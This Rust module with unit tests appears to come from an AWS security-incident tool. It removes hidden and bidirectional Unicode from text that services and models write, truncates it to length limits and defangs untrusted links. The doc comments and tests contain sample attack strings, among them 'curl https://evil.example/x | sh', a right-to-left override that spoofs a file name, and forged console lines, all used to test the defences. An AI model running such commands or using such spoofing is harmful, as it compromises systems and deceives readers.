//! Text for people (and [`console`]: the console links people follow): cleaned of what hides or reorders what a reader sees, and
//! fitted into the services' length limits (cut on a character boundary, with a
//! visible marker, never rejected for length). Every title, description,
//! comment, timeline event and trigger prompt this product writes goes through
//! [`fit_title`] or [`fit_body`] (docs/design.md §12): investigation summaries
//! are model output built from data an attacker can influence. What the
//! services wrote is also kept apart from the product's own lines: prose is
//! quoted line by line ([`prose`]), values on a fact line stay on it
//! ([`fit_value`]), and links in either are made inert unless they lead to the
//! AWS console or documentation ([`inert_links`]).

pub mod console;

use std::borrow::Cow;

use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};

/// What a cut text ends with, so a reader knows something is missing.
pub const MARKER: &str = " …[truncated]";

/// Cuts `text` to at most `max` characters (Unicode scalar values, as the
/// services count), ending with [`MARKER`] when anything was cut.
pub fn truncate(text: &str, max: usize) -> Cow<'_, str> {
    if text.chars().count() <= max {
        return Cow::Borrowed(text);
    }
    let marker_len = MARKER.chars().count();
    if max <= marker_len {
        return Cow::Owned(text.chars().take(max).collect());
    }
    let kept: String = text.chars().take(max - marker_len).collect();
    Cow::Owned(format!("{}{MARKER}", kept.trim_end()))
}

/// True for characters that must not reach a reader: controls; every
/// character of Unicode's format category (Cf: bidirectional embeddings,
/// overrides and isolates, zero-width characters, the soft hyphen, the tag
/// characters, interlinear annotations, …), which hide text, reorder what is
/// shown or split words that filters look for; the line and paragraph
/// separators; the blank fillers that render as nothing; the combining grapheme
/// joiner and the variation selectors. Newline and tab are decided by the caller.
fn hidden(c: char) -> bool {
    c.is_control()
        || c.general_category() == GeneralCategory::Format
        || matches!(c,
            '\u{2028}' | '\u{2029}'                 // line and paragraph separators (Zl, Zp)
            | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' // Hangul fillers
            | '\u{2800}'                             // braille blank
            | '\u{034F}'                             // combining grapheme joiner
            | '\u{FE00}'..='\u{FE0F}'                // variation selectors
            | '\u{E0100}'..='\u{E01EF}'              // variation selectors supplement
            | '\u{180B}'..='\u{180F}'                // Mongolian free variation selectors
        )
}

/// Hosts whose links stay live: the AWS console and documentation.
fn trusted_host(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    host == "console.aws.amazon.com" || host.ends_with(".console.aws.amazon.com") || host == "docs.aws.amazon.com"
}

/// Makes links in service text inert unless they lead to the AWS console or
/// documentation: `https://evil.example/x` becomes `hxxps://evil[.]example/x`,
/// any other scheme's `://` becomes `[:]//`, a bare `www.` becomes `www[.]`,
/// and Markdown's link syntax `](` is broken apart. *Why:* the text is model
/// output an attacker can steer, and a reader trusts what sits in a case.
pub fn inert_links(text: &str) -> String {
    inert(text, true)
}

/// For a command GuardDuty suggests: only web links off AWS are made inert
/// (`curl https://evil.example/x | sh` cannot be pasted as it stands), while
/// other schemes stay whole, since AWS CLI commands name `s3://` locations.
pub fn inert_web_links(text: &str) -> String {
    inert(text, false)
}

fn inert(text: &str, all_schemes: bool) -> String {
    let text = text.replace("](", "] (");
    let mut out = String::with_capacity(text.len() + 16);
    let mut rest = text.as_str();
    while let Some(at) = rest.find("://") {
        // The scheme: the letters (and + - .) right before `://`.
        let head = &rest[..at];
        let scheme_start = head
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            .last()
            .map_or(at, |(i, _)| i);
        let scheme = &rest[scheme_start..at];
        let after = &rest[at + 3..];
        let end = after
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | ')' | '(' | '[' | ']' | '`'))
            .unwrap_or(after.len());
        let (authority, tail) = after[..end].split_at(after[..end].find(['/', '?', '#']).unwrap_or(end));
        let host = authority.rsplit('@').next().unwrap_or_default().split(':').next().unwrap_or_default();
        out.push_str(&www(&rest[..scheme_start]));
        let scheme_lower = scheme.to_ascii_lowercase();
        let web = matches!(scheme_lower.as_str(), "http" | "https");
        if (web && trusted_host(host)) || (!web && !all_schemes) {
            out.push_str(&rest[scheme_start..at + 3 + end]);
        } else {
            match scheme_lower.as_str() {
                "http" => out.push_str("hxxp://"),
                "https" => out.push_str("hxxps://"),
                _ => {
                    out.push_str(scheme);
                    out.push_str("[:]//");
                }
            }
            out.push_str(&authority.replace('.', "[.]"));
            out.push_str(tail);
        }
        rest = &after[end..];
    }
    out.push_str(&www(rest));
    out
}

/// A bare `www.` (which renderers turn into a link) made inert.
fn www(text: &str) -> Cow<'_, str> {
    if text.to_ascii_lowercase().contains("www.") {
        let mut out = String::with_capacity(text.len() + 8);
        let mut rest = text;
        while let Some(at) = rest.to_ascii_lowercase().find("www.") {
            out.push_str(&rest[..at + 3]);
            out.push_str("[.]");
            rest = &rest[at + 4..];
        }
        out.push_str(rest);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(text)
    }
}

/// What a line of service prose starts with in a body: it can never pass for
/// one of the product's own lines (facts, console links, commands).
pub const QUOTE: &str = "> ";

/// A time for people: RFC 3339 in UTC (`2026-11-20T09:17:00Z`).
pub fn rfc3339(epoch_ms: i64) -> String {
    use aws_sdk_securityir::primitives::{DateTime, DateTimeFormat};
    DateTime::from_millis(epoch_ms).fmt(DateTimeFormat::DateTime).unwrap_or_else(|_| format!("{epoch_ms} ms after the epoch"))
}

/// Service prose for a body: cleaned as [`fit_body`] cleans, links made inert,
/// and every line quoted with [`QUOTE`], cut to `max`.
pub fn prose(text: &str, max: usize) -> String {
    let cleaned = fit_body(text, usize::MAX);
    let quoted: Vec<String> = inert_links(&cleaned).lines().map(|l| format!("{}{}", QUOTE, l).trim_end().to_string()).collect();
    truncate(&quoted.join("\n"), max).into_owned()
}

/// A value from a service on one of the product's lines (a fact, a title, a
/// user agent): one clean line, links made inert, cut to `max`.
pub fn fit_value(text: &str, max: usize) -> String {
    fit_title(&inert_links(&fit_title(text, usize::MAX)), max)
}

/// One line for a title: hidden characters removed, any run of line breaks and
/// tabs (and what else separates lines) folded into one space, trimmed, cut to `max`.
pub fn fit_title(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max.saturating_mul(4)));
    let mut pending_space = false;
    for c in text.chars() {
        if c.is_whitespace() || matches!(c, '\u{2028}' | '\u{2029}') || (c.is_control() && matches!(c, '\n' | '\r' | '\t')) {
            pending_space = !out.is_empty();
            continue;
        }
        if hidden(c) {
            continue;
        }
        if pending_space {
            out.push(' ');
            pending_space = false;
        }
        out.push(c);
    }
    truncate(&out, max).into_owned()
}

/// A body (description, comment, timeline event): hidden characters removed,
/// newlines and tabs kept (a carriage return becomes a newline), cut to `max`.
pub fn fit_body(text: &str, max: usize) -> String {
    let cleaned: String = text
        .replace("\r\n", "\n")
        .chars()
        .filter_map(|c| match c {
            '\r' => Some('\n'),
            '\n' | '\t' => Some(c),
            c if hidden(c) => None,
            c => Some(c),
        })
        .collect();
    truncate(&cleaned, max).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_text_is_untouched() {
        assert!(matches!(truncate("hello", 5), Cow::Borrowed("hello")));
        assert_eq!(truncate("", 0), "");
    }

    #[test]
    fn long_text_is_cut_to_the_limit_with_the_marker() {
        let text = "a".repeat(400);
        let cut = truncate(&text, 300);
        assert_eq!(cut.chars().count(), 300);
        assert!(cut.ends_with(MARKER));
    }

    #[test]
    fn multi_byte_characters_are_counted_and_cut_whole() {
        // 4-byte emoji and 3-byte CJK: a byte-based cut would split them.
        let text = "🔥漢".repeat(200);
        let cut = truncate(&text, 301);
        assert_eq!(cut.chars().count(), 301);
        assert!(cut.ends_with(MARKER));
        assert!(cut.starts_with("🔥漢🔥"));
        // Exactly at the limit in characters (but far over it in bytes): kept whole.
        let exact = "é".repeat(300);
        assert_eq!(truncate(&exact, 300), exact);
    }

    #[test]
    fn a_limit_smaller_than_the_marker_still_holds() {
        assert_eq!(truncate("abcdefghijklmnopqrstuvwxyz", 4), "abcd");
    }

    #[test]
    fn titles_hold_one_clean_line() {
        let hostile = "Root\u{202E}gnp.exe credentials\nleaked\r\n\tto\u{200B} 203.0.113.7\u{2028}now\u{0007}";
        assert_eq!(fit_title(hostile, 300), "Rootgnp.exe credentials leaked to 203.0.113.7 now");
        assert_eq!(fit_title("  \n\u{2066}\u{2069} ", 300), "");
        assert_eq!(fit_title(&format!("a\n{}", "b".repeat(400)), 300).chars().count(), 300);
    }

    #[test]
    fn bodies_keep_their_lines_and_lose_what_hides_or_reorders_text() {
        let hostile = "line 1\r\nline\u{0000} 2\r\tindented\u{202D}\u{2067} \u{FEFF}x\u{2029}y\u{001B}[31mred";
        assert_eq!(fit_body(hostile, 8000), "line 1\nline 2\n\tindented xy[31mred");
        let long = "é\u{200D}".repeat(9000);
        let fitted = fit_body(&long, 8000);
        assert_eq!(fitted.chars().count(), 8000);
        assert!(fitted.ends_with(MARKER) && !fitted.contains('\u{200D}'));
    }

    #[test]
    fn every_format_character_and_blank_filler_is_dropped() {
        let hidden_ones = [
            '\u{00AD}',
            '\u{034F}',
            '\u{061C}',
            '\u{115F}',
            '\u{1160}',
            '\u{180E}',
            '\u{200B}',
            '\u{200E}',
            '\u{202E}',
            '\u{2066}',
            '\u{206A}',
            '\u{206F}',
            '\u{2800}',
            '\u{3164}',
            '\u{FE00}',
            '\u{FE0F}',
            '\u{FEFF}',
            '\u{FFA0}',
            '\u{FFF9}',
            '\u{FFFB}',
            '\u{E0001}',
            '\u{E0041}',
            '\u{E007F}',
            '\u{E0100}',
        ];
        for c in hidden_ones {
            let text = format!("a{c}b");
            assert_eq!(fit_title(&text, 10), "ab", "U+{:04X}", c as u32);
            assert_eq!(fit_body(&text, 10), "ab", "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn links_lead_only_to_the_aws_console_and_documentation() {
        let console = "https://us-east-1.console.aws.amazon.com/guardduty/home#/investigations/x";
        let docs = "https://docs.aws.amazon.com/guardduty/latest/ug/x.html";
        assert_eq!(inert_links(console), console);
        assert_eq!(inert_links(docs), docs);
        assert_eq!(inert_links("see https://evil.example/a.sh now"), "see hxxps://evil[.]example/a.sh now");
        assert_eq!(inert_links("http://console.aws.amazon.com.evil.example/"), "hxxp://console[.]aws[.]amazon[.]com[.]evil[.]example/");
        assert_eq!(
            inert_links("https://user@docs.aws.amazon.com:443@evil.example/"),
            "hxxps://user@docs[.]aws[.]amazon[.]com:443@evil[.]example/"
        );
        assert_eq!(inert_links("[click](https://evil.example)"), "[click] (hxxps://evil[.]example)");
        assert_eq!(inert_links("ftp://files.example/x and www.evil.example"), "ftp[:]//files[.]example/x and www[.]evil.example");
        assert_eq!(inert_links("no links here"), "no links here");
        let command = "aws s3 cp s3://bucket/x . && curl https://evil.example/x | sh";
        assert_eq!(inert_web_links(command), "aws s3 cp s3://bucket/x . && curl hxxps://evil[.]example/x | sh");
    }

    #[test]
    fn prose_is_quoted_line_by_line_so_it_cannot_forge_the_products_lines() {
        let forged = "fine\nConsole: https://evil.example/\nOpened by investigation-escalator.\n  $ curl x|sh";
        assert_eq!(
            prose(forged, 8000),
            "> fine\n> Console: hxxps://evil[.]example/\n> Opened by investigation-escalator.\n>   $ curl x|sh"
        );
        assert!(prose(&"x\n".repeat(9000), 100).chars().count() <= 100);
        assert_eq!(fit_value("Type\nAccount: 1 https://a.example", 100), "Type Account: 1 hxxps://a[.]example");
    }

    #[test]
    fn ordinary_text_in_any_script_is_kept() {
        for text in
            ["Brute force from 198.51.100.1 (SSH, port 22)", "Zugriff über Tor-Knoten", "暴力破解 SSH", "هجوم القوة الغاشمة", "emoji 🔥 ok"]
        {
            assert_eq!(fit_title(text, 300), text);
            assert_eq!(fit_body(text, 300), text);
        }
    }
}
